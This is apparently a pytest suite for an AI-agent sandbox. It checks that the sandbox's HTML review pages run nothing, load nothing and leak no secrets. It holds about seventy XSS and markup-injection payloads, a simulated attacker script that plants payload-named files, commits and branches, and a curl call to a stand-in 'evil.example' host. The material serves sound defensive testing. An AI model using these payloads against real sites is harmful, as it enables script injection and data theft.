"""Pages made of what an agent would write to be obeyed: in a real browser, nothing runs, loads or goes anywhere."""

from __future__ import annotations

import base64
import contextlib
import dataclasses
import html
import json
import os
import re
import socket
import textwrap
import threading
import time
import urllib.parse
from datetime import UTC, datetime
from html.parser import HTMLParser
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from tests.review import examples
from tests.support.browser import Browser
from tests.support.png import chunk, write_png

from claudebox.base.errors import ClaudeboxError
from claudebox.review import diffs, records
from claudebox.review.batch_page import TaskRow, list_rows, render_batch
from claudebox.review.diffs import FileChange, Hunk, compare_texts
from claudebox.review.gather import read_facts
from claudebox.review.html import E, link_beside, link_within, render_document, show_lines
from claudebox.review.page import read_own
from claudebox.review.pictures import Picture, read_picture
from claudebox.review.search import require_clean
from claudebox.review.session_page import render_session

if TYPE_CHECKING:
    from collections.abc import Iterator

# ADDRESS is a listener of the test, which must hear nothing.
PAYLOADS = (
    "<script>fetch('http://ADDRESS/script')</script>",
    "</script><script>alert(1)</script>",
    "<script src=http://ADDRESS/x.js></script>",
    "<img src=http://ADDRESS/img onerror=alert(1)>",
    "<svg onload=alert(1)><script href='http://ADDRESS/svg'/></svg>",
    '"><img src=x onerror=alert(1)>',
    "' autofocus onfocus=alert(1) x='",
    '" onmouseover=alert(1) style="x:expression(1)',
    "` onclick=alert(1) `",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</textarea></pre></code></table></svg><iframe src=http://ADDRESS/frame></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<meta http-equiv=refresh content='0;url=http://ADDRESS/refresh'>",
    "<base href=http://ADDRESS/>",
    "<link rel=stylesheet href=http://ADDRESS/css>",
    "<link rel=prefetch href=http://ADDRESS/prefetch>",
    "<style>@import 'http://ADDRESS/import';*{background:url(http://ADDRESS/bg)}</style>",
    "}*{background:url(http://ADDRESS/b)}",
    "<form action=http://ADDRESS/form><input name=a autofocus><button>",
    "<object data=http://ADDRESS/object></object>",
    "<embed src=http://ADDRESS/embed>",
    "<video autoplay src=http://ADDRESS/v><track src=http://ADDRESS/t></video>",
    "<audio src=http://ADDRESS/a autoplay>",
    "<a href=javascript:alert(1)>x</a>",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "\x01javascript:alert(1)",
    "java\nscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:x",
    "//ADDRESS/slashes",
    "\\\\ADDRESS\\share",
    "http://ADDRESS/plain",
    "file:///etc/passwd",
    "#came",
    "&lt;script&gt;",
    "&#60;script&#62;alert(1)",
    "&colon;",
    "<!--",
    "-->",
    "<![CDATA[",
    "]]>",
    "<!doctype svg>",
    "<?xml-stylesheet href='http://ADDRESS/xsl'?>",
    "<math><mtext><script>alert(1)</script>",
    "<svg><foreignObject><body onload=alert(1)>",
    "<svg><use href='http://ADDRESS/use#x'/><image href='http://ADDRESS/i'/></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "<%= 1 %>",
    "\u202egnp.exe",
    "\u2066\u2069\u200b\u200d\ufeff\u00ad",
    "\x00\x08\x1b[2J\x7f\x85\u2028\u2029",
    "\udc80\udcff",
    "\ud800 \udfff",
    "\ufdd0\ufffe\uffff\U0010ffff",
    "a\r\nb\tc",
    "\u0430\u0301" * 40,
    "x" * 5000,
    "'\"<>&`=/",
    "\u3000\u2800\u3164\uffa0\u115f",
    "\ufffc",
    "%00%0d%0a<b>",
    "..\\..\\x",
    "~/.ssh/id_rsa",
)


class Listener:
    """Counts who connects."""

    def __init__(self) -> None:
        self._socket = socket.create_server(("127.0.0.1", 0))
        self.address = f"127.0.0.1:{self._socket.getsockname()[1]}"
        self.heard: list[bytes] = []
        threading.Thread(target=self._listen, daemon=True).start()

    def _listen(self) -> None:
        while True:
            try:
                connection = self._socket.accept()[0]
            except OSError:
                return
            threading.Thread(target=self._answer, args=(connection,), daemon=True).start()

    def _answer(self, connection: socket.socket) -> None:
        with connection, contextlib.suppress(OSError):
            connection.settimeout(5)
            self.heard.append(connection.recv(4096))
            connection.sendall(b"HTTP/1.0 200 OK\r\nContent-Length: 0\r\n\r\n")

    def close(self) -> None:
        with contextlib.suppress(OSError):
            self._socket.shutdown(socket.SHUT_RDWR)
        self._socket.close()


@pytest.fixture
def listener() -> Iterator[Listener]:
    made = Listener()
    yield made
    made.close()


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with Browser() as made:
        yield made


def fill(kind: Any, texts: list[str]) -> Any:
    """Return a record with these texts in every field that holds any: lists have one entry for each."""
    whole = " ".join(texts)
    short: dict[Any, Any] = {
        FileChange: lambda: FileChange(""),
        Hunk: lambda: Hunk("", []),
        records.Commit: lambda: records.Commit("", "", "", 1e9, ""),
        records.Event: lambda: records.Event(1e9, "tools", ""),
        records.HostTraffic: lambda: records.HostTraffic("", "reached", 1, 5, 7),
        records.Spending: lambda: records.Spending(1e9, "", 5, 1, 1, 1),
        records.Story: lambda: records.Story("", ""),
    }
    made: Any = short[kind]()
    for field in dataclasses.fields(made):
        if field.type == "str" and field.name not in ("lane", "verdict"):
            setattr(made, field.name, whole)
    each = lambda other: [fill(other, [text]) for text in texts]  # noqa: E731
    if kind is Hunk:
        made.lines = [(mark, number, text) for number, text in enumerate(texts, 1) for mark in " -+"]
    elif kind is FileChange:
        made.hunks = [fill(Hunk, texts)]
        made.cut, made.added = 3, 4
    elif kind is records.Commit:
        made.files = each(FileChange)
    elif kind is records.HostTraffic:
        made.secrets = tuple(texts)
    elif kind is records.Story:
        pairs = [(text, text) for text in texts]
        made.facts, made.entered, made.secrets, made.commands = (list(pairs) for _ in range(4))
        made.asked, made.outcome, made.withheld, made.found, made.missing = (list(texts) for _ in range(5))
        made.look, made.output = [(text, text, text) for text in texts], [(text, 3) for text in texts]
        made.commits, made.files, made.events = each(records.Commit), each(FileChange), each(records.Event)
        made.hosts = [
            *each(records.HostTraffic),
            *(dataclasses.replace(row, verdict="denied") for row in each(records.HostTraffic)),
        ]
        made.spending, made.began, made.ended = each(records.Spending), 1e9, 1e9 + 100
    return made


def payloads(listener: Listener) -> list[str]:
    return [text.replace("ADDRESS", listener.address) for text in PAYLOADS]


def whole_batch(texts: list[str], directory: Path) -> bytes:
    rows = [
        (
            text.replace("/", "\u2215"),
            {"status": text, "why": text, "said": text, "cost_usd": 1.0, "files": {"review.html": 1}},
        )
        for text in texts
    ]
    return render_batch(list_rows(rows, str(directory / "results"), str(directory / "batch.html")), " ".join(texts))


@pytest.mark.slow
@pytest.mark.parametrize("make", ["session", "batch"])
def test_nothing_that_an_agent_wrote_runs_loads_or_leads_away(make, browser, listener, tmp_path):
    # proves REVIEW-01
    texts = payloads(listener)
    page = tmp_path / "page.html"
    page.write_bytes(render_session(fill(records.Story, texts)) if make == "session" else whole_batch(texts, tmp_path))
    browser.show(page)
    browser.evaluate("document.querySelectorAll('details').forEach((each) => each.open = true)")
    for event in ("mouseover", "focus", "click", "toggle"):  # whatever waits for the user
        browser.evaluate(
            f"document.querySelectorAll('body *:not(a)').forEach((each) => each.dispatchEvent(new Event('{event}')))"
        )
    browser.wait(1.0)

    assert browser.deeds(page) == []
    assert listener.heard == []
    assert (
        browser.evaluate(
            "document.querySelectorAll('iframe,object,embed,form,base,link,video,audio,use,foreignObject').length"
        )
        == 0
    )
    assert browser.evaluate("document.scripts.length") == (1 if make == "batch" else 0)
    names = "[...document.querySelectorAll('*')].flatMap((each) => [...each.attributes]).map((each) => each.name)"
    handlers = f"{names}.filter((name) => /^on|^style$/.test(name)).length"
    assert browser.evaluate(handlers) == 0
    schemes = "[...new Set([...document.links].map((each) => each.protocol))].join()"
    assert browser.evaluate(schemes) == "file:"
    shown = browser.evaluate("document.body.innerText")
    assert "<script>alert(1)</script>" in shown
    assert not re.search("[\u202a-\u202e\u2066-\u2069\u200b\u200d\ufeff\x00-\x08\x1b]", shown)
    assert "U+202E" in shown


ATTACK = r"""
import json, os, subprocess
def git(*words, **options):
    subprocess.run(["git", *words], check=False, stderr=subprocess.DEVNULL, **options)
texts = [text.encode("utf-8", "surrogatepass") for text in json.load(open("payloads.json"))]
os.unlink("payloads.json")
names = [text.replace(b"/", b"").replace(b"\0", b"")[:200] for text in texts]
names += [bytes(range(start, start + 16)).replace(b"/", b"").replace(b"\0", b"") for start in range(1, 241, 16)]
os.mkdir("d")
for number, (name, text) in enumerate(zip(names + names, texts + texts)):
    try:
        with open(os.path.join(b"d" if number >= len(texts) else b".", name), "wb") as file:
            file.write(text + b"\n" + name + b"\n")
        if number == len(texts) - 1:
            git("add", "-A")
        if number % 9 == 0:
            os.symlink(text.replace(b"\0", b"")[:200], name + b".link")
    except OSError:
        pass
for text in texts[::3]:
    plain = text.replace(b"\0", b"")
    env = {**os.environb, b"GIT_AUTHOR_NAME": plain[:99] or b"x", b"GIT_AUTHOR_EMAIL": plain[:99]}
    git("commit", "-q", "--allow-empty", "--allow-empty-message", "--no-verify", "-F", "-", input=plain, env=env)
    git("branch", b"b/" + plain[:60])
    git("tag", plain[:60])
os.makedirs(".github/workflows")
open(".github/workflows/<img src=x onerror=alert(1)>.yml", "w").close()
open(".envrc", "w").close()
os.makedirs("node_modules/<svg onload=alert(1)>")
subprocess.run(["curl", "-sm2", "http://evil.example"], capture_output=True)
"""


@pytest.mark.slow
def test_a_real_session_of_an_attacker_has_a_page_that_does_nothing(user_box, browser, listener, tmp_path):
    # proves REVIEW-01
    user_box.write(f"{user_box.home}/.claudebox/config.toml", 'network = "allow"\nundo_keep = "5"\n', mode=0o600)
    os.chmod(f"{user_box.home}/.claudebox", 0o700)
    user_box.write("a.txt", "begin\n")
    for words in (("init", "-q"), ("config", "user.name", "Ada"), ("config", "user.email", "a@example.org"),
                  ("add", "-A"), ("commit", "-q", "-m", "Begin")):  # fmt: skip
        assert user_box.host("git", *words).returncode == 0
    texts = payloads(listener)
    user_box.write("payloads.json", json.dumps(texts))
    program = user_box.write("attack.py", ATTACK)
    done = user_box.run("python3", program, timeout=120)
    assert done.returncode == 0, done.stderr
    (log,) = Path(f"{user_box.home}/.claudebox/log").glob("*.jsonl")
    began = json.loads(log.read_bytes().split(b"\n")[0])["time"]
    now = datetime.fromtimestamp(began + 0.001, UTC).isoformat()
    rows = [{"type": "user", "timestamp": now, "message": {"content": f" {text}"}} for text in texts]
    rows += [{"type": "assistant", "timestamp": now, "message": {"content": [
        {"type": "tool_use", "name": text, "input": {"command": text}}, {"type": "text", "text": text}]}}
        for text in texts]  # fmt: skip
    (instance,) = Path(f"{user_box.home}/.claudebox/instances").iterdir()
    user_box.write(f"{instance}/claude/projects/-p/0123-abcd.jsonl", "".join(json.dumps(row) + "\n" for row in rows))
    with log.open("a") as file:
        for text in texts:
            for row in ({"kind": "usage", "model": text},
                        {"kind": "decision", "host": text, "rule": text, "verdict": "denied"},
                        {"kind": "decision", "host": text, "verdict": "open", "secrets": [text]}):  # fmt: skip
                file.write(json.dumps({"time": time.time(), "port": 80, **row}) + "\n")
    made = user_box.claudebox("review")
    assert made.returncode == 0, made.stderr
    assert "\x1b" not in made.stdout + made.stderr
    page = tmp_path / "page.html"
    page.write_bytes(Path(made.stdout.strip()).read_bytes())
    browser.show(page)
    browser.evaluate("document.querySelectorAll('details').forEach((each) => each.open = true)")
    browser.wait(0.5)
    shown = browser.evaluate("document.body.innerText")

    assert browser.deeds(page) == []
    assert listener.heard == []
    assert (
        browser.evaluate("document.scripts.length + document.querySelectorAll('iframe,object,embed,form').length") == 0
    )
    for place in ("Commits", "Not committed", "Timeline", "Cost", "Network", "Look at these before you work here"):
        assert place in shown, place
    assert shown.count("alert(1)") > 50
    assert "U+202E" in shown
    assert not re.search("[\u202a-\u202e\u2066-\u2069\u200b\u200d\ufeff\x00-\x08\x1b]", shown)


@pytest.mark.slow
def test_the_browser_and_the_listener_would_notice(browser, listener, tmp_path):
    """The same texts as markup: without the policy they act, and with it the browser says what it refused."""
    markup = "\n".join(payloads(listener)[:36]).replace("alert(1)", "console.log(1)").encode("utf-8", "replace")
    page = tmp_path / "naive.html"
    page.write_bytes(
        b"<!doctype html><meta charset=utf-8><body>" + b"<img src=http://%s/x>" % listener.address.encode() + markup
    )
    browser.open(page)
    browser.wait(2.0)
    deeds = browser.deeds(page)
    assert {"request", "frame", "wants", "says"} <= {deed.split()[0] for deed in deeds}
    assert listener.heard

    heard = len(listener.heard)
    kept = tmp_path / "kept.html"
    kept.write_bytes(
        render_document("x", ["PLACE"], style="").replace(
            b"PLACE", b"<script>alert(1)</script><img src=http://%s/x>" % listener.address.encode()
        )
    )
    browser.show(kept)
    browser.wait(0.5)
    assert [deed for deed in browser.deeds(kept) if deed.startswith(("refused", "policy"))]
    assert len(listener.heard) == heard


class _Reader(HTMLParser):
    """Reads a page back, with what stands in it."""

    def __init__(self) -> None:
        super().__init__()
        self.names: set[str] = set()
        self.attributes: set[str] = set()
        self.text = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.names.add(tag)
        self.attributes |= {name for name, _ in attrs}

    def handle_data(self, data: str) -> None:
        self.text += data


@given(st.text(st.characters(codec=None), max_size=60))
def test_text_stays_text(text):
    # proves REVIEW-01
    reader = _Reader()
    page = render_document(text, [E("p", text, title=text, aria_label=text), show_lines(text)], style="")
    page.decode("utf-8")
    reader.feed(page.decode("utf-8"))

    assert reader.names <= {"html", "head", "meta", "title", "style", "body", "p", "span"}
    assert reader.attributes <= {"lang", "charset", "http-equiv", "content", "name", "class", "title", "aria-label"}
    assert all(char.isprintable() or char in "\t\n" for char in reader.text)


def test_marks_do_not_pile_up_and_what_cannot_be_seen_is_named():
    # proves REVIEW-01
    shown = "".join(E("p", "e" + "\u0301" * 300, "v\ufe00\U000e0100", "\u2764\ufe0f").itertext())

    assert shown.count("\u0301") == 4
    assert "U+0301 and 288 more" in shown
    assert "vU+FE00 U+E0100\u2764\ufe0f" in shown


@given(st.text(st.characters(codec=None), min_size=1, max_size=40))
def test_a_link_stays_beside_the_page(text):
    for link in (link_beside(text, "x"), link_within(text, "x")):
        target = link.attrib["href"]
        assert target.startswith(("./", "../", "#"))
        assert re.fullmatch(r"[\w./#%~-]*", target, re.ASCII)
        assert "//" not in target.removeprefix("./") or not target.startswith("//")


@pytest.mark.parametrize(
    ("name", "attributes"),
    [
        ("script", {}),
        ("iframe", {}),
        ("a", {"href": "x"}),
        ("p", {"onclick": "x"}),
        ("p", {"style": "x"}),
        ("form", {}),
        ("img", {"src": "x"}),
        ("image", {"href": "x"}),
        ("use", {}),
        ("input", {"type": "submit"}),
        ("foreignObject", {}),
        ("P", {}),
        ("p onclick=x", {}),
        ("p", {"class onclick": "x"}),
        ("style", {}),
        ("meta", {}),
        ("base", {}),
    ],
)
def test_what_acts_cannot_be_written(name, attributes):
    with pytest.raises(ValueError, match=r"no page|no element"):
        E(name, **attributes)


PNG = examples.draw_png(3, 2, lambda x, y: (x, y, 9))
SVG = b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><script>alert(1)</script></svg>"


@pytest.mark.parametrize(
    "content",
    [
        b"",
        b"\x89PNG",
        b"\x89PNG\r\n\x1a\n" + SVG,
        SVG,
        b"GIF89a" + SVG,
        b"\xff\xd8\xff" + SVG,
        b"RIFF\0\0\0\0WEBP" + SVG * 3,
        b"BM" + SVG,
        b"\0\0\1\0" + SVG,
        b"<html>",
        b"%PDF-1.4",
        b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + b"\xff" * 8,
        b"\xff\xd8" + b"\xff" * 999,
        b"\xff\xd8\xff\xc0\0\x11\x08" + b"\xff" * 8,
        b"\xff\xd8\xff\xe0\0\0" * 9,
        PNG[:20],
        b"RIFF\x24\0\0\0WEBPVP8X" + b"\xff" * 20,
        PNG + bytes(1 << 20),
        b"GIF89a" + b"\xff" * 9,
    ],
    ids=range(19),
)
def test_what_is_no_picture_of_reasonable_size_is_none(content):
    # proves REVIEW-01
    assert read_picture(PNG) is not None
    assert read_picture(content) is None


@given(
    st.binary(max_size=200),
    st.sampled_from([b"\x89PNG\r\n\x1a\n", b"\xff\xd8\xff", b"GIF89a", b"RIFF\0\0\0\0WEBP", b""]),
)
def test_any_bytes_can_be_looked_at(content, start):
    found = read_picture(start + content)

    assert found is None or isinstance(found, Picture)


GIF_HEAD = b"GIF89a\2\0\1\0\x80\0\0\0\0\0\xff\xff\xff"
GIF_FRAME = b",\0\0\0\0\1\0\1\0\0\2\2D\1\0"  # one pixel
GIF = GIF_HEAD + b"!\xf9\4\1\0\0\0\0" + GIF_FRAME + b";"
JPEG_HEAD = b"\xff\xd8\xff\xe0\0\x04ab"
JPEG_SIZE = b"\xff\xc0\0\x11\x08\0\2\0\3\1\1\x11\0\0\0\0\0\0\0"  # 3 x 2
HUGE_SIZE = JPEG_SIZE.replace(b"\0\2\0\3", b"\xff\xff\xff\xff")


def test_a_picture_is_reduced_to_one_still():
    # proves REVIEW-01
    animated = PNG[:33] + chunk(b"acTL", b"\0\0\0\2\0\0\0\0") + chunk(b"iTXt", SVG) + PNG[33:] + SVG
    frames = GIF[:-1] + b"!\xff\x0bNETSCAPE2.0\3\1\0\0\0" + GIF_FRAME * 99 + b";" + SVG
    for content, still in ((animated, PNG), (frames, GIF), (GIF_HEAD + b"!\xfe\4evil\0" + GIF_FRAME, None)):
        found = read_picture(content)
        assert found is not None
        assert SVG not in found.content
        assert found.content == (still or GIF_HEAD + GIF_FRAME + b";")


@pytest.mark.parametrize(
    "content",
    [
        GIF_HEAD + GIF_FRAME.replace(b"\1\0\1\0\0", b"\xff\xff\xff\xff\0") + b";",  # a frame larger than the screen
        PNG[:33] + PNG[8:],  # a second header
        JPEG_HEAD + b"\xff\x01" + HUGE_SIZE + JPEG_SIZE,  # a marker without a length hides the size
        JPEG_HEAD + b"\0" + JPEG_SIZE,
        JPEG_HEAD + HUGE_SIZE,
        JPEG_HEAD + JPEG_SIZE + b"\xff\xda" * 101,  # each scan takes the time of the whole picture
        b"RIFF\x24\0\0\0WEBPVP8X\x0a\0\0\0\2\0\0\0" + bytes(6),  # animated
        GIF_HEAD,
        PNG[:-12],
    ],
    ids=range(9),
)
def test_a_picture_whose_decoder_would_do_more_is_none(content):
    # proves REVIEW-01
    assert read_picture(JPEG_HEAD + JPEG_SIZE) is not None
    assert read_picture(content) is None


def test_pictures_of_a_page_have_a_limit_together():
    # proves REVIEW-01
    allowance = records.Allowance()
    bomb = read_picture(JPEG_HEAD + JPEG_SIZE.replace(b"\0\2\0\3", b"\x12\0\x12\0"))
    assert bomb is not None
    shown = [allowance.take_picture(bomb) for _ in range(100)]

    assert 1 < sum(row is not None for row in shown) * bomb.pixels <= 64_000_000


@pytest.mark.slow
def test_pictures_that_are_something_else_too_show_pixels_at_most(browser, listener, tmp_path):
    # proves REVIEW-01
    active = SVG.replace(b"alert(1)", b"fetch('//%s/picture')" % listener.address.encode())
    draw = (
        "(() => {const it = document.createElement('canvas'); it.width = 3; it.height = 2; "
        "it.getContext('2d').fillRect(0, 0, 2, 2); return it.toDataURL('image/%s').split(',')[1]})()"
    )
    made = [base64.b64decode(browser.evaluate(draw % kind)) for kind in ("png", "jpeg", "webp")]
    made += [PNG[:33] + chunk(b"tEXt", b"Comment\0" + active) + PNG[33:], PNG + active, *(row + active for row in made)]
    made += [GIF + active, GIF[:-1] + b"!\xfe\4" + b"evil\0" + active]
    story = records.Story("x", "x")
    for at, content in enumerate(made):
        story.files.append(FileChange(f"{at}.svg", "new", sizes=(-1, len(content)), after=read_picture(content)))
    assert sum(row.after is not None for row in story.files) == len(made)
    page = tmp_path / "page.html"
    page.write_bytes(render_session(story))
    browser.show(page)
    browser.wait(0.5)

    assert browser.deeds(page) == []
    assert listener.heard == []
    assert browser.evaluate("[...document.images].map((each) => each.naturalWidth)") == [3] * 8 + [2] * 2


VALUE = 'wJalrXUtnFEMIK7&MDENG<bPxRf"iCY'


def leaves(record: Any) -> Iterator[tuple[Any, Any]]:
    """Yield every place of a text in a record: what holds it, and its name or index there."""
    is_record = dataclasses.is_dataclass(record)
    names: list[Any] = [field.name for field in dataclasses.fields(record)] if is_record else [*range(len(record))]
    for name in names:
        value = getattr(record, name) if is_record else record[name]
        if isinstance(value, str) and value not in (" ", "-", "+"):
            yield record, name
        elif isinstance(value, list) or dataclasses.is_dataclass(value):
            yield from leaves(value)
        elif isinstance(value, tuple) and value and not is_record:
            record[name] = [*value]
            yield from leaves(record[name])


def test_a_value_is_found_in_every_field():
    # proves REVIEW-01
    story = fill(records.Story, ["x"])
    require_clean(story, render_session(story), [("KEY", VALUE)])
    places = [(holder, name) for holder, name in leaves(story) if name not in ("lane", "verdict")]
    assert len(places) > 50
    for holder, name in places:
        before = getattr(holder, name) if isinstance(name, str) else holder[name]
        put = setattr if isinstance(name, str) else type(holder).__setitem__
        put(holder, name, f"a {VALUE}\n")
        with pytest.raises(ClaudeboxError, match="`KEY`"):
            require_clean(story, b"", [("KEY", VALUE)])
        put(holder, name, before)
    require_clean(story, render_session(story), [("KEY", VALUE)])


@pytest.mark.parametrize(
    "lines",
    [
        [VALUE[:12], VALUE[12:]],
        textwrap.wrap(base64.b64encode(VALUE.encode() * 9).decode(), 30),
        [html.escape(VALUE)],
        [urllib.parse.quote(VALUE)],
        [json.dumps(VALUE)],
        [VALUE.encode().hex()],
    ],
    ids=["two lines", "base64", "html", "url", "json", "hexadecimal"],
)
def test_a_value_is_found_in_every_form(lines):
    # proves REVIEW-01
    change = FileChange("a", "changed")
    compare_texts(change, "same\n", "same\n" + "".join(f"{line}\n" for line in lines), 400, time.monotonic() + 10)
    story = records.Story("x", "x", commits=[records.Commit("a", "b", "c", 1e9, "m", [change])])
    with pytest.raises(ClaudeboxError, match="from `a`"):
        require_clean(story, render_session(story), [("KEY", VALUE)])
    require_clean(story, render_session(story), [("KEY", VALUE[::-1])])


def test_a_value_is_found_in_a_picture_and_in_a_batch(tmp_path):
    # proves REVIEW-01
    pixels = VALUE.encode() + b"\0" * (-len(VALUE) % 3)
    picture = read_picture(write_png(len(pixels) // 3, pixels, level=0))  # stored, not compressed
    assert picture is not None
    story = records.Story("x", "x", files=[FileChange("a.png", "new", after=picture)])
    with pytest.raises(ClaudeboxError, match=r"from `a\.png`"):
        require_clean(story, render_session(story), [("KEY", VALUE)])

    rows = list_rows([("task", {"status": "failed", "why": VALUE})], str(tmp_path), str(tmp_path / "page"))
    with pytest.raises(ClaudeboxError, match="`KEY`"):
        require_clean(rows, render_batch(rows, "x"), [("KEY", VALUE)])


def test_a_value_that_is_not_text_is_found():
    value = "p\udce9ss-w\udcf6rd-4711-xyz"  # in Latin-1
    story = records.Story("x", "x", said=f"it is {value}")
    with pytest.raises(ClaudeboxError, match="`KEY`"):
        require_clean(story, render_session(story), [("KEY", value)])


NUMBERS: tuple[object, ...] = (
    *(-1, 0, 1e308, 10**400, float("inf"), float("nan"), -0.0, 1e-320, 1 << 62),
    *("1", None, True, [], {}),
)


def test_a_batch_says_why_tasks_are_not_done_what_needs_the_user_first():
    # proves REVIEW-01
    whys = ["529"] * 9 + ["ended with 1"] * 3 + ["no time"] * 2
    rows = [TaskRow(f"{at}", "retry" if why == "529" else "failed", why, cost=0.5) for at, why in enumerate(whys)]
    page = render_batch([*rows, TaskRow("good", "done")], "x").decode()
    reasons = page.partition('id="why"')[2].partition("</section>")[0]

    assert [*re.findall("<td>([^<]+)</td>", reasons)] == ["ended with 1", "no time", "529"]
    assert "$4.50" in reasons


def test_any_number_can_stand_in_a_result_and_in_a_log(tmp_path):
    # proves REVIEW-01
    names = ("cost_usd", "seconds", "tries", "changed", "exit", "status")
    found = [(f"{at}", dict.fromkeys(names, number)) for at, number in enumerate(NUMBERS)]
    assert render_batch(list_rows(found, str(tmp_path), str(tmp_path / "page")), "x")
    numbers = ("time", "price", "input", "output", "cache_write", "cache_read", "port", "count", "up", "down", "status")
    lines = [
        {"kind": kind, "verdict": verdict, "host": number, "model": number, **dict.fromkeys(numbers, number)}
        for number in NUMBERS
        for kind in ("start", "usage", "decision", "end")
        for verdict in ("denied", "opened", "failed")
    ]
    story = records.Story("x", "x")
    read_facts(story, lines, 0)
    assert render_session(story)


def test_a_forged_date_does_not_squeeze_the_timeline():
    events = [records.Event(1e9 + at, "tools", "x") for at in range(100)]
    events += [records.Event(moment, "commits", "forged") for moment in (1.0, 99999999999.0)]
    page = render_session(records.Story("x", "x", began=1e9, ended=1e9 + 100, events=events)).decode()

    assert page.count('class="tools"') == 100
    assert page.count('class="commits"') == 2


def test_huge_things_are_cut_and_counted():
    # proves REVIEW-01
    change = FileChange("a", "changed")
    compare_texts(change, "", "x\n" * 50_000, 400, time.monotonic() + 10)
    assert (change.added, change.shown, change.cut) == (50_000, 400, 49_600)
    story = records.Story("x", "x", files=[change], output=[(f"{at}", 1) for at in range(5000)])
    story.events = [records.Event(1e9 + at, "tools", "y" * 10_000) for at in range(20_000)]
    page = render_session(story)

    assert len(page) < 3 << 20
    for told in ("49,600 more changed lines", "4,600 more", "18,500 more"):
        assert told in page.decode()


def test_texts_that_are_made_to_take_long_do_not():
    lines = [f"{number % 97}" for number in range(30_000)]
    change = FileChange("a")
    begun = time.process_time()
    compare_texts(change, "\n".join(lines), "\n".join(reversed(lines)), 400, time.monotonic() + 10)

    assert time.process_time() - begun < 5
    assert change.note.startswith("too different")
    assert change.added == change.removed == 30_000


LINES = st.lists(st.sampled_from("abcde"), max_size=30)


@given(LINES, LINES)
def test_a_difference_has_every_line_of_both_texts(old, new):
    marks = diffs._compare_lines(old, new, time.monotonic() + 10) or ""
    kept: list[list[str]] = [[], []]
    for mark in marks:
        for side, other in ((0, "+"), (1, "-")):
            if mark != other:
                kept[side].append((old, new)[side][len(kept[side])])

    assert kept == [old, new]


@given(
    st.binary(max_size=400), st.sampled_from([b"", b"diff --git a/x b/x\n", b"diff --git a/x b/x\n@@ -1,9 +1,9 @@\n"])
)
def test_any_patch_can_be_read(content, start):
    for change in diffs.read_patch(start + content, 50):
        assert change.shown <= 50


def test_a_line_of_a_file_does_not_pass_for_a_heading():
    name = rb'/caf\303\251 \"q\"\t"'
    patch = b'diff --git "a%s "b%s\n--- "a%s\n+++ "b%s\n' % ((name,) * 4)
    patch += b"@@ -1,2 +1,2 @@ def f():\n-- a/x\n-diff --git a/y b/y\n+++ b/evil\n+@@ -1 +1 @@\n\\ No newline\n"
    (change,) = diffs.read_patch(patch, 50)

    assert change.path == 'caf\u00e9 "q"\t'
    assert [row[2] for row in change.hunks[0].lines] == ["- a/x", "diff --git a/y b/y", "++ b/evil", "@@ -1 +1 @@"]


def test_the_one_script_writes_no_markup():
    script = read_own("tasks.js")

    assert not re.search(
        r"innerHTML|outerHTML|insertAdjacent|document\.write|eval|Function|setTimeout|location", script
    )
    assert "</" not in script + read_own("page.css")
